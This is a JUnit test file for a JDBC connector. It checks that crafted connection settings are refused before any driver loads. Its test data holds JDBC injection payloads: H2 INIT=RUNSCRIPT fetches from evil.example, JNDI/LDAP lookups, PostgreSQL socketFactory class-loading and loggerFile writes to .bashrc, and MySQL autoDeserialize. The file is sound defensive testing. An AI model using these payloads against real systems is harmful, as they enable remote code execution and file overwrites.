package org.mapwright.connector.jdbc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.mapwright.core.DataType;
import org.mapwright.core.Field;
import org.mapwright.core.Schema;
import org.mapwright.core.Settings;
import org.mapwright.core.connector.ConnectorContext;
import org.mapwright.core.connector.DataException;
import org.mapwright.core.connector.InspectOptions;
import org.mapwright.core.connector.ProgressMonitor;
import org.mapwright.core.connector.SettingsException;

/**
 * Settings crafted to make a driver run code, load classes, write files or reach other hosts.
 * Every one must be refused with a clear reason before any driver is looked up.
 */
class HostileSettingsTest {

    @TempDir
    Path dir;

    private final JdbcFixtures.CountingDrivers drivers = new JdbcFixtures.CountingDrivers();
    private ConnectorContext context;

    @BeforeEach
    void setUp() throws Exception {
        Files.createFile(dir.resolve("driver.jar"));
        context = JdbcFixtures.context(dir, Map.of("pw", "secret"));
    }

    private static Map<String, Object> h2(String key, Object value) {
        Map<String, Object> m = new HashMap<>(Map.of("driver", "h2", "path", "data/shop"));
        m.put(key, value);
        return m;
    }

    private static Map<String, Object> pg(String key, Object value) {
        Map<String, Object> m = new HashMap<>(Map.of("driver", "postgresql", "host", "127.0.0.1", "database", "test", "user", "postgres"));
        m.put(key, value);
        return m;
    }

    private static Map<String, Object> generic(String url, String properties) {
        Map<String, Object> m = new HashMap<>(Map.of("driver", "generic", "driverJar", "driver.jar", "driverClass", "com.acme.Driver", "url", url));
        if (properties != null) {
            m.put("properties", properties);
        }
        return m;
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                Arguments.of("h2 INIT runscript in path", h2("path", "shop;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'"), "init"),
                Arguments.of("h2 javascript trigger in path", h2("path", "shop;INIT=CREATE TRIGGER T BEFORE SELECT ON DUAL AS '//javascript'"), "init"),
                Arguments.of("h2 alias in path", h2("path", "x\\;CREATE ALIAS EXEC AS 'String e(String c)'"), "create alias"),
                Arguments.of("h2 tcp server", h2("path", "tcp://evil.example:9092/~/db"), "tcp:"),
                Arguments.of("h2 ssl server", h2("path", "ssl://evil.example/db"), "ssl:"),
                Arguments.of("h2 zip file system", h2("path", "zip:/tmp/a.zip!/db"), "zip:"),
                Arguments.of("h2 in-memory database", h2("path", "mem:scratch"), "mem:"),
                Arguments.of("h2 nio file system", h2("path", "nio:/etc/db"), "nio:"),
                Arguments.of("h2 jndi lookup", h2("path", "jndi:ldap://evil.example/x"), "jndi"),
                Arguments.of("h2 auto server", h2("path", "shop;AUTO_SERVER=TRUE"), "';'"),
                Arguments.of("h2 colon inside path", h2("path", "data/x:mem:y"), "':'"),
                Arguments.of("h2 control character in path", h2("path", "shop\u0000;x"), "control character"),
                Arguments.of("h2 bidi override in path", h2("path", "shop\u202E"), "control character"),
                Arguments.of("h2 extra properties", h2("properties", "MODE=PostgreSQL"), "accepts no extra properties"),
                Arguments.of("h2 raw url", h2("url", "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'x'"), "does not apply"),
                Arguments.of("h2 init smuggled in user", h2("user", "sa;INIT=RUNSCRIPT FROM 'http://evil/x'"), "init"),
                Arguments.of("h2 cipher not boolean", h2("cipher", "AES;INIT=x"), "init"),
                Arguments.of("pg host with path and query", pg("host", "evil.example/db?socketFactory=x"), "'/'"),
                Arguments.of("pg host with query", pg("host", "localhost?sslfactory=x"), "'?'"),
                Arguments.of("pg host with semicolon", pg("host", "localhost;x=y"), "';'"),
                Arguments.of("pg host with ampersand", pg("host", "a&loggerFile=/tmp/x"), "'&'"),
                Arguments.of("pg host with fragment", pg("host", "host#frag"), "'#'"),
                Arguments.of("pg host with whitespace", pg("host", "local host"), "whitespace"),
                Arguments.of("pg host with port", pg("host", "127.0.0.1:5433"), "give the port in 'port'"),
                Arguments.of("pg host with user info", pg("host", "x@evil.example"), "'@'"),
                Arguments.of("pg non-numeric port", pg("port", "5432x"), "port"),
                Arguments.of("pg port out of range", pg("port", 99999L), "port"),
                Arguments.of("pg database with query", pg("database", "test?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"), "database"),
                Arguments.of("pg database with semicolon", pg("database", "test;foo"), "database"),
                Arguments.of("pg database with ampersand", pg("database", "test&loggerFile=/tmp/x"), "database"),
                Arguments.of("pg socketFactory", pg("properties", "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"), "instantiates a class"),
                Arguments.of("pg socketFactoryArg", pg("properties", "socketFactoryArg=http://evil.example/x.xml"), "constructor"),
                Arguments.of("pg sslfactory", pg("properties", "sslfactory=com.evil.Factory"), "instantiates a class"),
                Arguments.of("pg sslhostnameverifier", pg("properties", "sslhostnameverifier=com.evil.Verifier"), "instantiates a class"),
                Arguments.of("pg sslpasswordcallback", pg("properties", "sslpasswordcallback=com.evil.Callback"), "instantiates a class"),
                Arguments.of("pg authenticationPluginClassName", pg("properties", "authenticationPluginClassName=com.evil.Auth"), "instantiates a class"),
                Arguments.of("pg loggerFile", pg("properties", "loggerFile=/home/user/.bashrc"), "writes a file"),
                Arguments.of("pg loggerLevel", pg("properties", "loggerLevel=TRACE"), "logging"),
                Arguments.of("pg options", pg("properties", "options=-c log_statement=all"), "server options"),
                Arguments.of("pg password property", pg("properties", "password=hunter2"), "credential store"),
                Arguments.of("pg case-varied socket factory", pg("properties", "sslmode=require;SOCKETFACTORY=x"), "instantiates a class"),
                Arguments.of("pg xml factory", pg("properties", "xmlFactoryFactory=com.evil.Xml"), "instantiates a class"),
                Arguments.of("pg unknown property", pg("properties", "foo=bar"), "not allowed"),
                Arguments.of("pg bad timeout value", pg("properties", "connectTimeout=5&socketFactory=x"), "whole number"),
                Arguments.of("pg line-separated smuggling", pg("properties", "ApplicationName=x\nsocketFactory=y"), "instantiates a class"),
                Arguments.of("pg control character in user", pg("user", "postgres\r\nx"), "control character"),
                Arguments.of("generic h2 url", generic("jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", null), "init"),
                Arguments.of("generic h2 url without init", generic("jdbc:h2:mem:x", null), "use driver h2"),
                Arguments.of("generic postgresql url", generic("jdbc:postgresql://h/db?socketFactory=x", null), "use driver postgresql"),
                Arguments.of("generic mysql deserialization", generic("jdbc:mysql://h/db?autoDeserialize=true", null), "autodeserialize"),
                Arguments.of("generic mysql interceptors", generic("jdbc:mysql://h/db?queryInterceptors=com.evil.I", null), "interceptor"),
                Arguments.of("generic inline password", generic("jdbc:acme://h/db;password=hunter2", null), "credential store"),
                Arguments.of("generic class property", generic("jdbc:acme://h/db", "socketFactoryClass=com.evil.F"), "factory"),
                Arguments.of("generic not a jdbc url", generic("http://evil.example/", null), "jdbc:"),
                Arguments.of("generic driver jar is the root folder", Map.of("driver", "generic", "driverJar", "//", "driverClass", "com.acme.Driver",
                        "url", "jdbc:acme://h/db"), ".jar file"),
                Arguments.of("unknown driver", Map.of("driver", "sqlite", "path", "x.db"), "unknown driver"));
    }

    @Test
    void listsAtLeastTwentyFiveHostileInputs() {
        assertTrue(hostile().count() >= 25);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void refusesHostileSettingsBeforeAnyDriverIsLoaded(String name, Map<String, Object> connection, String reason) {
        Map<String, Object> source = new HashMap<>(connection);
        source.put("table", "customers");
        Settings settings = Settings.of(source);
        Schema schema = Schema.of(List.of(Field.of("f1", "id", DataType.INTEGER)));
        JdbcConnector connector = JdbcFixtures.source(drivers);
        JdbcTargetConnector target = new JdbcTargetConnector(drivers);

        // SettingsException: a configuration error, which command lines report with the usage exit code.
        List<DataException> errors = List.of(
                assertThrows(SettingsException.class, () -> connector.inspect(context, settings, InspectOptions.DEFAULTS, ProgressMonitor.NONE)),
                assertThrows(SettingsException.class, () -> connector.open(context, settings, schema)),
                assertThrows(SettingsException.class, () -> connector.browse(context, settings)),
                assertThrows(SettingsException.class, () -> target.open(context, settings, schema)));

        assertEquals(0, drivers.calls.get(), "a driver was looked up for " + name);
        for (DataException e : errors) {
            assertTrue(e.reason().startsWith("refused connection settings: "), e.getMessage());
            assertTrue(e.reason().toLowerCase().contains(reason.toLowerCase()), "expected '" + reason + "' in: " + e.reason());
        }
    }
}
